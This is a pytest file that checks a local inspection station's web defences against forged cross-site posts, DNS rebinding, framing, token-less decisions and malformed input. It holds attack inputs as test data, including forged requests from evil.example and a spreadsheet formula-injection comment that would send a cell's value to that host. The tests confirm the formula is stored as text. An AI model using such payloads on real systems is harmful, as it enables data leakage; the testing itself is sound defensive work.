"""The station's fences over real HTTP: forged cross-site writes, DNS rebinding, framing, unattributed decisions.

Each test reproduces a break a probe found in the station before these fences (all on 127.0.0.1):
a ``text/plain`` form post from another origin turned a reject into ok, a rebinding page read the
history, any inspection id could be decided by anyone, malformed ids gave 500.
"""
from __future__ import annotations

import csv
import http.client
import io
import json
import sqlite3
from urllib.parse import urlsplit

import pytest

from tests.fixtures.station import png_bytes, running_station, steel_image

EVIL = "http://evil.example"


@pytest.fixture(scope="module")
def station(station_irs, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("guard")
    (workdir / "camera").mkdir()
    # --no-login: the guard's fences hold without logins too (with logins: test_login.py)
    with running_station([station_irs["anomaly"]], workdir, "--db", "station.sqlite", "--watch", "camera",
                         "--max-upload-mb", "1", "--no-login") as process:
        process.workdir = workdir
        yield process


def _inspect(station, seed: int = 1) -> dict:
    status, payload = station.upload(png_bytes(steel_image(seed, size=96)), f"part{seed}.png")
    assert status == 200, payload
    return payload


def _decisions(station) -> list[tuple]:
    with sqlite3.connect(station.workdir / "station.sqlite") as conn:
        return conn.execute("SELECT inspection_id, decision, operator FROM decisions ORDER BY id").fetchall()


def _raw(station, method: str, path: str, body: bytes = b"", headers: dict | None = None):
    """A request with exactly these headers (urllib would add its own Host and Content-Type)."""
    url = urlsplit(station.url)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for key, value in {"Host": url.netloc, **(headers or {})}.items():
        conn.putheader(key, value)
    conn.putheader("Content-Length", str(len(body)))
    conn.endheaders(body)
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, dict(response.getheaders()), data


def test_cross_site_writes_are_refused_and_change_nothing(station):
    payload = _inspect(station)
    forged = json.dumps({"inspection_id": payload["inspection_id"], "decision": "regrade", "grade": "ok",
                         "comment": "x", "operator": "nobody", "token": payload["token"]}).encode()
    before = _decisions(station)
    # what a plain HTML form with enctype=text/plain on another site sends: no custom header, text/plain
    status, _, body = _raw(station, "POST", "/api/decision", forged,
                           {"Origin": EVIL, "Content-Type": "text/plain;charset=UTF-8"})
    assert status == 403 and b"X-Requested-With" in body
    # even with the header (a script cannot send it cross-origin without a preflight the station never answers)
    for headers, message in (({"Origin": EVIL}, b"Origin"), ({"Referer": EVIL + "/page"}, b"Referer"),
                             ({"Sec-Fetch-Site": "cross-site"}, b"Sec-Fetch-Site"), ({"Origin": "null"}, b"Origin")):
        status, _, body = _raw(station, "POST", "/api/decision", forged, {
            "X-Requested-With": "defect-station", "Content-Type": "application/json", **headers})
        assert status == 403 and message in body, (headers, body)
    # the station's own origin but a form's body type
    status, _, body = _raw(station, "POST", "/api/decision", forged, {
        "X-Requested-With": "defect-station", "Content-Type": "text/plain", "Origin": station.url.rstrip("/")})
    assert status == 415 and b"application/json" in body
    # uploads and the watched folder likewise
    status, _, _ = _raw(station, "POST", "/api/inspect?name=x.png", png_bytes(steel_image(5, size=96)),
                        {"Origin": EVIL, "Content-Type": "image/png"})
    assert status == 403
    status, _, _ = _raw(station, "POST", "/api/watch", b"{}", {"Content-Type": "text/plain"})
    assert status == 403
    status, _, _ = _raw(station, "POST", "/api/inspect?name=x.png", png_bytes(steel_image(5, size=96)),
                        {"X-Requested-With": "defect-station", "Content-Type": "text/plain"})
    assert status == 415
    assert _decisions(station) == before
    # no CORS preflight is ever granted
    status, headers, _ = _raw(station, "OPTIONS", "/api/decision", b"", {
        "Origin": EVIL, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-requested-with"})
    assert status >= 400 and not any(key.lower().startswith("access-control-") for key in headers)
    # the station's own page (same origin, the header, JSON) still writes
    status, row = station.request("api/decision", json_body=json.loads(forged), headers={
        "Origin": station.url.rstrip("/")})
    assert status == 200 and row["final_grade"] == "ok" and row["operator"] == "nobody"


def test_a_rebinding_host_is_refused_everywhere(station):
    for path in ("/", "/api/history.csv", "/api/status", "/static/station.js"):
        status, _, body = _raw(station, "GET", path,
                               headers={"Host": f"rebind.evil.example:{urlsplit(station.url).port}"})
        assert status == 421 and b"--allow-host" in body, path
    status, _, _ = _raw(station, "GET", "/api/status", headers={"Host": f"localhost:{urlsplit(station.url).port}"})
    assert status == 200


def test_every_response_forbids_framing_and_sniffing(station):
    for path in ("/", "/api/status", "/static/station.js", "/api/nowhere"):
        _, headers, _ = _raw(station, "GET", path)
        headers = {key.lower(): value for key, value in headers.items()}
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY", path
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy and "unsafe" not in policy


def test_decisions_need_an_operator_and_the_token_of_an_inspection_shown_to_this_client(station):
    first, second = _inspect(station, 11), _inspect(station, 12)
    decide = {"inspection_id": first["inspection_id"], "decision": "accept", "token": first["token"]}
    status, answer = station.request("api/decision", json_body=decide)
    assert status == 400 and "operator" in answer["error"]
    for token in ("", second["token"], "guessed"):
        status, answer = station.request("api/decision", json_body={**decide, "operator": "Ana", "token": token})
        assert status == 403 and "not shown to this client" in answer["error"], token
    status, answer = station.request("api/threshold", json_body={
        "inspection_id": first["inspection_id"], "model": 0, "threshold": 0.0, "token": second["token"]})
    assert status == 403
    # thresholds belong to the client that moved them: a decision records only what its page showed
    model = first["models"][0]["name"]
    status, moved = station.request("api/threshold", json_body={
        "inspection_id": first["inspection_id"], "model": 0, "threshold": 0.0, "token": first["token"]})
    assert status == 200
    status, answer = station.request("api/decision", json_body={
        **decide, "operator": "Ana", "thresholds": {model: first["models"][0]["threshold"]}})
    assert status == 409 and "inspect the image again" in answer["error"]
    status, row = station.request("api/decision", json_body={**decide, "operator": " Ana ",
                                                             "thresholds": {model: 0.0}})
    assert status == 200 and row["operator"] == "Ana" and json.loads(row["thresholds"]) == {model: 0.0}
    status, row = station.request("api/decision", json_body={
        "inspection_id": first["inspection_id"], "decision": "regrade", "grade": "minor", "token": first["token"],
        "operator": "Ben", "comment": '=HYPERLINK("http://evil.example/?"&B2,"details")'})
    assert status == 200
    # history and CSV keep every decision in order; the current grade is the newest one's
    history = station.request("api/history")[1]["rows"]
    row = next(r for r in history if r["id"] == first["inspection_id"])
    assert [(d["decision"], d["operator"]) for d in row["decisions"]] == [("accept", "Ana"), ("regrade", "Ben")]
    assert row["current_grade"] == "minor" and row["decision_count"] == 2
    rows = [r for r in csv.DictReader(io.StringIO(station.request("api/history.csv")[1]))
            if r["id"] == str(first["inspection_id"])]
    assert [(r["decision"], r["operator"]) for r in rows] == [("accept", "Ana"), ("regrade", "Ben")]
    assert rows[1]["comment"] == '\'=HYPERLINK("http://evil.example/?"&B2,"details")'  # shown as text, never run


@pytest.mark.parametrize("value", [2 ** 63, 10 ** 30, -1, 0, "²", "９", "1e3", 1.5, True, None])
def test_malformed_ids_get_400(station, value):
    status, answer = station.request("api/decision", json_body={"inspection_id": value, "decision": "accept",
                                                                "operator": "Ana", "token": "x"})
    assert status == 400 and "inspection id" in answer["error"], answer


def test_malformed_bodies_and_names_get_4xx_with_a_message(station):
    payload = _inspect(station, 21)
    signed = {"inspection_id": payload["inspection_id"], "decision": "accept", "token": payload["token"]}
    status, answer = station.request("api/decision", data=json.dumps({**signed, "operator": "Ana",
                                                                      "comment": "\ud800"}).encode(),
                                     headers={"Content-Type": "application/json"})
    assert status == 400 and "not valid Unicode" in answer["error"]
    status, answer = station.request("api/decision", data=b"[" * 30000 + b"]" * 30000,
                                     headers={"Content-Type": "application/json"})
    assert status == 400 and "nested too deeply" in answer["error"]
    status, answer = station.request("api/decision", data=b"{" + b" " * 70000 + b"}",
                                     headers={"Content-Type": "application/json"})
    assert status == 413 and "64 KiB for JSON bodies" in answer["error"] and "--max-upload-mb" not in answer["error"]
    status, answer = station.request("api/decision", json_body={**signed, "operator": "A" * 101})
    assert status == 400 and "at most 100" in answer["error"]
    # a NUL and other control characters in an upload name never reach the records
    status, named = station.upload(png_bytes(steel_image(22, size=96)), "bad\x00name\x1b.png")
    assert status == 200 and named["source"] == "upload:badname.png"


def test_watched_files_have_the_upload_size_cap(station):
    big = station.workdir / "camera" / "big.png"
    big.write_bytes(png_bytes(steel_image(31, size=96)) + b"\x00" * 1_200_000)
    status, answer = station.request("api/watch", json_body={"name": "big.png"})
    assert status == 413 and answer["error"].startswith("watch:big.png: 1.2 MB is above the station's limit of 1 MB")


def test_a_station_bound_to_every_address_warns_and_still_checks_the_host(station_irs, tmp_path):
    with running_station([station_irs["anomaly"]], tmp_path, "--host", "0.0.0.0", "--allow-host", "line3-pc.plant",
                         "--db", "station.sqlite", "--no-login") as process:
        port = urlsplit(process.url).port
        process.url = f"http://127.0.0.1:{port}/"
        assert process.request("api/status")[0] == 200
        assert _raw(process, "GET", "/api/status", headers={"Host": f"line3-pc.plant:{port}"})[0] == 200
        assert _raw(process, "GET", "/api/status", headers={"Host": f"evil.example:{port}"})[0] == 421
        output = process.output()
    assert "WARNING: listening on 0.0.0.0" in output and "no logins (--no-login)" in output
